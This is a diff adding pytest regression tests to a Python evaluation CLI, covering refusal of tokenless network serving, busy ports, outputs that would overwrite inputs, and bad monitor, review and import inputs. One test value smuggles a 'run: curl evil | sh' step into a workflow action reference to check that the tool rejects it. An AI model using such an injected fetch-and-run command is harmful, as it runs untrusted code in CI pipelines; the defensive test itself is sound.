@@ -1,5 +1,9 @@
 """Hostile-input audit regressions: each file a CLI option reads fails with one message and exit 2, no traceback.
 
+Second round (below the first): servers on every interface without a real token, busy ports, an output path
+that names an input file (data loss), output folders that cannot be made, read-only verbs creating stores,
+monitor / review / init / import / calibrate inputs that were ignored or accepted silently.
+
 Why: the project's contract is that a missing file, a directory, a binary or non-UTF-8 file, or an empty config
 is bad input (exit 2, the message names the file); these call sites used to raise UnicodeDecodeError /
 IsADirectoryError tracebacks (exit 1) or silently ignore / accept the file. Found by a matrix of verbs x bad
@@ -12,6 +16,7 @@ import subprocess
 import sys
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from typer.testing import CliRunner
@@ -20,6 +25,7 @@ from evalwheel.cli import app
 
 ROOT = Path(__file__).resolve().parents[1]
 SESSIONS = ROOT / "examples" / "studymode" / "sessions"
+NO_SERVER = "http://127.0.0.1:9/v1#m"  # nothing listens on port 9; only used where no model call may happen
 runner = CliRunner()
 
 BAD: dict[str, Callable[[Path], Path]] = {}
@@ -176,7 +182,22 @@ def test_monitor_grader_config_file_empty_is_exit_2(tmp_path: Path) -> None:
     assert not out.exists()
 
 
-@pytest.mark.parametrize("verb", [["runs", "list"], ["runs", "show", "r1"], ["compare", "a", "b"]])
+READ_ONLY_VERBS = [
+    ["runs", "list"],
+    ["runs", "show", "r1"],
+    ["compare", "a", "b"],
+    # these created an empty store at the typo and reported nothing (exit 0)
+    ["monitor", "status"],
+    ["monitor", "windows"],
+    ["monitor", "alerts"],
+    ["monitor", "failures", "--no-embed"],
+    ["review", "agreement"],
+    ["review", "sync"],
+    ["review", "assign", "ana", "ben"],
+]
+
+
+@pytest.mark.parametrize("verb", READ_ONLY_VERBS, ids=" ".join)
 @pytest.mark.parametrize("form", ["path", "url", "directory"])
 def test_read_only_verbs_do_not_create_a_store_at_a_missing_path(verb: list[str], form: str, tmp_path: Path) -> None:
     """`runs list --store typo.sqlite` used to create an empty store there and print "no runs" (exit 0)."""
@@ -254,6 +275,19 @@ OUTPUTS: dict[str, Callable[[Path, Path], list[str]]] = {
         str(o),
     ],
     "init DIR": lambda o, t: ["init", str(o)],
+    # written only after the work: checked before it (a chat or a long calibration was lost at the end)
+    "chat --out": lambda o, t: ["chat", "--model", NO_SERVER, "--out", str(o)],
+    "calibrate pairwise --out": lambda o, t: [
+        "calibrate",
+        "pairwise",
+        "--llmbar",
+        str(ROOT / "tests/fixtures/llmbar_tiny.json"),
+        "--model",
+        NO_SERVER,
+        "--no-progress",
+        "--out",
+        str(o),
+    ],
 }
 
 
@@ -313,3 +347,354 @@ def test_serve_golden_dir_must_be_a_folder(kind: str, tmp_path: Path) -> None:
     result = runner.invoke(app, ["serve", "--golden-dir", str(target), "--store", str(tmp_path / "s.sqlite")])
     assert result.exit_code == 2, (result.output, result.exception)
     assert "--golden-dir" in result.output and "golden" in result.output
+
+
+# ------------------------------------------------------------------------------------------------ servers
+
+SERVERS: dict[str, list[str]] = {
+    "serve": ["serve"],
+    "monitor serve": ["monitor", "serve"],
+    "study-web": ["study-web", "--model", NO_SERVER],
+}
+
+
+@pytest.fixture
+def no_token_env(monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("EVALWHEEL_SERVE_TOKEN", "EVALWHEEL_MONITOR_TOKEN"):
+        monkeypatch.delenv(name, raising=False)
+
+
+@pytest.mark.parametrize(("host", "token"), [("", None), ("", "   "), ("0.0.0.0", "  ")])
+@pytest.mark.parametrize("server", sorted(SERVERS))
+def test_every_interface_without_a_real_token_is_refused(
+    server: str, host: str, token: str | None, tmp_path: Path, no_token_env: None
+) -> None:
+    """`--host ''` counted as loopback, but uvicorn binds it to 0.0.0.0 and [::]: served to the network, no token.
+    A blank --token passed the check too (and no request can send a blank bearer token)."""
+    args = [*SERVERS[server], "--host", host, "--port", "0", "--store", str(tmp_path / "s.sqlite")]
+    result = runner.invoke(app, args + (["--token", token] if token is not None else []))
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "is not loopback: refusing to serve without a token" in result.output
+
+
+def test_the_empty_host_is_not_loopback() -> None:
+    from evalwheel.serving import is_loopback
+
+    assert not is_loopback("") and is_loopback("localhost") and is_loopback("127.0.0.2") and is_loopback("[::1]")
+
+
+@pytest.mark.parametrize("server", sorted(SERVERS))
+def test_a_busy_port_is_exit_2_naming_the_address(server: str, tmp_path: Path) -> None:
+    """uvicorn logged the bind error after the banner and exited 1 or 3 (monitor serve: 'cannot serve ...: 3')."""
+    import socket
+
+    with socket.socket() as busy:
+        busy.bind(("127.0.0.1", 0))
+        busy.listen()
+        port = busy.getsockname()[1]
+        result = runner.invoke(app, [*SERVERS[server], "--port", str(port), "--store", str(tmp_path / "s.sqlite")])
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert f"cannot listen on 127.0.0.1:{port}" in result.output
+
+
+# ------------------------------------------------------------------------------ an output that is an input
+
+
+def _copy(src: Path, dst: Path) -> Path:
+    dst.write_bytes(src.read_bytes())
+    return dst
+
+
+# (verb, argv given tmp) -> (argv, the input file that must survive). Each replaced the file it had just read.
+SAME_FILE: dict[str, Callable[[Path], tuple[list[str], Path]]] = {
+    "evaluate --out": lambda t: (
+        ["evaluate", str(f := _copy(next(SESSIONS.glob("*.json")), t / "s.json")), "--out", str(f)],
+        f,
+    ),
+    "evaluate FOLDER --out": lambda t: (
+        ["evaluate", str(t), "--out", str(_copy(next(SESSIONS.glob("*.json")), t / "s.json"))],
+        t / "s.json",
+    ),
+    "grade --out": lambda t: (
+        ["grade", str(f := _events(t)), "--graders", str(ROOT / "examples/support/monitor.yaml"), "--out", str(f)],
+        f,
+    ),
+    "dataset lock --lock": lambda t: (
+        ["dataset", "lock", str(f := _copy(ROOT / "examples/support/dataset.jsonl", t / "d.jsonl")), "--lock", str(f)],
+        f,
+    ),
+    "chat --memory --out": lambda t: (
+        [
+            "chat",
+            "--model",
+            NO_SERVER,
+            "--memory",
+            str(f := _copy(next(SESSIONS.glob("*.json")), t / "m.json")),
+            "--out",
+            str(f),
+        ],
+        f,
+    ),
+    "calibrate grader --labels --out": lambda t: (
+        ["calibrate", "grader", "contains", "--labels", str(f := _labels(t)), "--no-progress", "--out", str(f)],
+        f,
+    ),
+}
+
+
+@pytest.mark.parametrize("verb", sorted(SAME_FILE))
+def test_an_output_path_naming_an_input_file_is_refused(verb: str, tmp_path: Path) -> None:
+    args, victim = SAME_FILE[verb](tmp_path)
+    before = victim.read_bytes()
+    result = runner.invoke(app, args)
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert isinstance(result.exception, SystemExit)
+    assert "names the input file itself" in result.output
+    assert victim.read_bytes() == before
+
+
+# --------------------------------------------------------------------------------- output folders
+
+
+def _import_args(out: Path, t: Path) -> list[str]:
+    fix = ROOT / "tests/fixtures/openai_evals"
+    return ["import", "openai-eval", str(fix / "tutoring_eval.json"), "--data", str(fix / "tutoring_items.jsonl"),
+            "--out", str(out)]  # fmt: skip
+
+
+# Output folders (created): a file at the path, or a file in the way of its parent, was FileExistsError /
+# NotADirectoryError traceback (exit 1).
+FOLDERS: dict[str, Callable[[Path, Path], list[str]]] = {
+    "replay --out": lambda o, t: ["replay", str(next(SESSIONS.glob("*.json"))), "--arms", "human", "--out", str(o)],
+    "simulate --out": lambda o, t: [
+        "simulate",
+        "--arms",
+        "base",
+        "--learner",
+        "scripted",
+        "--model",
+        NO_SERVER,
+        "--limit",
+        "1",
+        "--turns",
+        "1",
+        "--out",
+        str(o),
+    ],
+    "data fetch DEST": lambda o, t: ["data", "fetch", str(o), "--name", "uptake"],
+    "import openai-eval --out": _import_args,
+}
+
+
+@pytest.mark.parametrize("kind", ["a-file", "under-a-file"])
+@pytest.mark.parametrize("verb", sorted(FOLDERS))
+def test_an_output_folder_that_cannot_be_made_is_exit_2(verb: str, kind: str, tmp_path: Path) -> None:
+    (tmp_path / "afile").write_text("x", encoding="utf-8")
+    out = tmp_path / "afile" if kind == "a-file" else tmp_path / "afile" / "out"
+    result = runner.invoke(app, FOLDERS[verb](out, tmp_path))
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert isinstance(result.exception, SystemExit)
+    assert str(out) in result.output.replace("\n", "") and "cannot write" in result.output
+    assert (tmp_path / "afile").read_text(encoding="utf-8") == "x"
+
+
+def test_import_refuses_to_replace_a_project_it_did_not_write(tmp_path: Path) -> None:
+    """`import openai-eval --out examples/support` silently replaced that project's spec.yaml and dataset."""
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "spec.yaml").write_text("name: mine\n", encoding="utf-8")
+    result = runner.invoke(app, _import_args(project, tmp_path))
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "spec.yaml not written by an earlier import" in result.output
+    assert (project / "spec.yaml").read_text(encoding="utf-8") == "name: mine\n"
+    fresh = tmp_path / "fresh"
+    for _ in range(2):  # importing again into its own output replaces it
+        again = runner.invoke(app, _import_args(fresh, tmp_path))
+        assert again.exit_code == 0, again.output
+
+
+@pytest.mark.parametrize("shape", ["[1, 2]", '"text"', "null"])
+def test_import_data_of_the_wrong_shape_names_the_file(shape: str, tmp_path: Path) -> None:
+    """A --data JSON that is not an object said 'no data: pass --data ...' to someone who had passed --data."""
+    data = tmp_path / "runs-create.json"
+    data.write_text(shape, encoding="utf-8")
+    args = ["import", "openai-eval", str(ROOT / "tests/fixtures/openai_evals/tutoring_eval.json"), "--data",
+            str(data), "--out", str(tmp_path / "o")]  # fmt: skip
+    result = runner.invoke(app, args)
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "runs-create.json" in result.output and "no data" not in result.output
+
+
+# --------------------------------------------------------------------------------------- monitoring
+
+
+def _monitor_store(tmp: Path) -> str:
+    from evalwheel.monitor.queue import MonitorStore
+
+    url = _store(tmp)
+    MonitorStore(url).close()
+    return url
+
+
+@pytest.mark.parametrize("kind", ["missing", "directory", "binary", "invalid-jsonl"])
+@pytest.mark.parametrize("verb", ["failures", "promote --representatives"])
+def test_monitor_dataset_that_cannot_be_read_is_exit_2(verb: str, kind: str, tmp_path: Path) -> None:
+    """`monitor failures --dataset typo.jsonl` was ignored (exit 0); a malformed one an InvalidDatasetError
+    traceback, also under `promote --representatives`."""
+    dataset = tmp_path / "dataset.jsonl"
+    if kind == "directory":
+        dataset.mkdir()
+    elif kind == "binary":
+        dataset.write_bytes(b"\x00\x01\x02")
+    elif kind == "invalid-jsonl":
+        dataset.write_text('{"id": "a"}\nnot json\n', encoding="utf-8")
+    store = _monitor_store(tmp_path)
+    head = ["monitor", *verb.split(), "--store", store, "--dataset", str(dataset)]
+    extra = ["--no-embed"] if verb == "failures" else ["--root-cause", "r"]
+    if kind == "missing" and verb != "failures":
+        pytest.skip("promote creates a missing dataset")
+    result = runner.invoke(app, head + extra)
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert isinstance(result.exception, SystemExit)
+    assert "dataset.jsonl" in result.output
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [("--size", "0"), ("--size", "-5"), ("--size", "nan"), ("--size", "inf"), ("--baseline", "latest")],
+)
+def test_monitor_windows_options_are_checked(option: str, value: str, tmp_path: Path) -> None:
+    """--size 0 meant the config's 300 s, -5 and inf made nonsense windows, nan a ValueError traceback; an unknown
+    --baseline silently meant no drift test at all."""
+    result = runner.invoke(app, ["monitor", "windows", "--store", _monitor_store(tmp_path), option, value])
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert isinstance(result.exception, SystemExit)
+    assert option in result.output
+
+
+def test_monitor_config_with_an_unknown_baseline_is_exit_2(tmp_path: Path) -> None:
+    cfg = tmp_path / "monitor.yaml"
+    cfg.write_text("windows: {baseline: lastweek}\n", encoding="utf-8")
+    result = runner.invoke(app, ["monitor", "windows", "--config", str(cfg), "--store", _monitor_store(tmp_path)])
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "monitor.yaml" in result.output and "lastweek" in result.output
+
+
+# ------------------------------------------------------------------------------------------- review
+
+
+def test_review_assign_to_unknown_reviewers_is_exit_2_even_with_an_empty_queue(tmp_path: Path) -> None:
+    """It said 'assigned 0 item(s)' (exit 0) for names nobody had added."""
+    from evalwheel.review.store import ReviewStore
+
+    store = tmp_path / "s.sqlite"
+    ReviewStore(str(store)).add_reviewer("ana")
+    result = runner.invoke(app, ["review", "assign", "ana", "bne", "--store", str(store)])
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "unknown reviewer 'bne'" in result.output
+
+
+def _agreed_item(tmp_path: Path) -> tuple[Any, int]:
+    from evalwheel.review import LabelInput, ReviewStore, build_candidates
+    from test_web_review import _fill
+
+    review = ReviewStore(f"sqlite:///{tmp_path / 'store.sqlite'}")
+    _fill(review.runs, tmp_path)
+    review.enqueue(build_candidates(review.runs, ["run-a"], spot_checks=0))
+    for name in ("ana", "ben"):
+        review.add_reviewer(name)
+    item = next(i for i in review.queue(limit=10)[0] if i.sample_id == "s3")
+    for name in ("ana", "ben"):
+        review.save_label(item.item_id, name, LabelInput(checks={"x": "fail"}))
+    return review, item.item_id
+
+
+def test_golden_promotion_refuses_a_dataset_whose_golden_set_changed_since_its_lock(tmp_path: Path) -> None:
+    """Promotion re-locks the dataset: an unreviewed edit to a golden sample was blessed into the new lock."""
+    from evalwheel.datasets.lock import write_lock
+    from evalwheel.datasets.samples import scan_dataset
+    from evalwheel.review import promote_to_golden
+
+    review, item = _agreed_item(tmp_path)
+    golden = tmp_path / "golden.jsonl"
+    golden.write_text('{"id": "g1", "partition": "golden", "input": "q", "reference": "a"}\n', encoding="utf-8")
+    write_lock(scan_dataset(golden))
+    golden.write_text('{"id": "g1", "partition": "golden", "input": "q", "reference": "EDITED"}\n', encoding="utf-8")
+    lock_before = golden.with_name("golden.jsonl.lock.json").read_bytes()
+    with pytest.raises(ValueError, match="g1"):
+        promote_to_golden(review, item, golden, "ana")
+    assert golden.with_name("golden.jsonl.lock.json").read_bytes() == lock_before
+    assert "s3" not in golden.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("kind", ["directory", "latin1"])
+def test_golden_promotion_into_an_unreadable_dataset_is_exit_2(kind: str, tmp_path: Path) -> None:
+    """A folder named *.jsonl was an IsADirectoryError traceback; a non-UTF-8 file a bare codec message."""
+    _, item = _agreed_item(tmp_path)
+    golden = tmp_path / "golden.jsonl"
+    if kind == "directory":
+        golden.mkdir()
+    else:
+        golden.write_bytes(b'{"id": "caf\xe9"}\n')
+    args = ["review", "promote", str(item), "--dataset", str(golden), "--approver", "ana", "--store",
+            str(tmp_path / "store.sqlite")]  # fmt: skip
+    result = runner.invoke(app, args)
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert isinstance(result.exception, SystemExit)
+    assert "golden.jsonl" in result.output
+
+
+# --------------------------------------------------------------------------------------- the rest
+
+
+@pytest.mark.parametrize("action", ["bogus", "acme/evalwheel", "acme/evalwheel@v1\n      run: curl evil | sh"])
+def test_init_refuses_an_action_reference_that_is_not_one(action: str, tmp_path: Path) -> None:
+    """--action went verbatim into the workflow YAML (`uses: bogus`, or extra YAML keys), exit 0."""
+    result = runner.invoke(app, ["init", str(tmp_path / "p"), "--action", action])
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "--action" in result.output and not (tmp_path / "p").exists()
+    ok = runner.invoke(app, ["init", str(tmp_path / "q"), "--action", "./"])
+    assert ok.exit_code == 0, ok.output
+
+
+def test_calibrate_grader_config_with_an_unknown_option_names_the_file(tmp_path: Path) -> None:
+    """The option was only found on the first item ('failed on item 1'), without naming the config file."""
+    cfg = tmp_path / "contains.yaml"
+    cfg.write_text("valeu: hi\n", encoding="utf-8")
+    args = ["calibrate", "grader", "contains", "--labels", str(_labels(tmp_path)), "--config", str(cfg),
+            "--no-progress"]  # fmt: skip
+    result = runner.invoke(app, args)
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "contains.yaml" in result.output and "'valeu'" in result.output and "failed on item" not in result.output
+
+
+def test_calibrate_against_a_url_that_is_not_the_api_is_exit_2(tmp_path: Path) -> None:
+    """A judge URL serving a web page left every item unscored with exit 0 and no cause; now probed first."""
+    import http.server
+    import threading
+
+    class Page(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            self.rfile.read(int(self.headers.get("Content-Length", 0)))
+            body = b"<html>welcome</html>"
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        model = f"http://127.0.0.1:{server.server_address[1]}/v1#judge"
+        args = ["calibrate", "pairwise", "--llmbar", str(ROOT / "tests/fixtures/llmbar_tiny.json"), "--model", model,
+                "--no-cache", "--no-progress", "--limit", "1"]  # fmt: skip
+        result = runner.invoke(app, args)
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert result.exit_code == 2, (result.output, result.exception)
+    assert "not with an OpenAI chat completion" in result.output
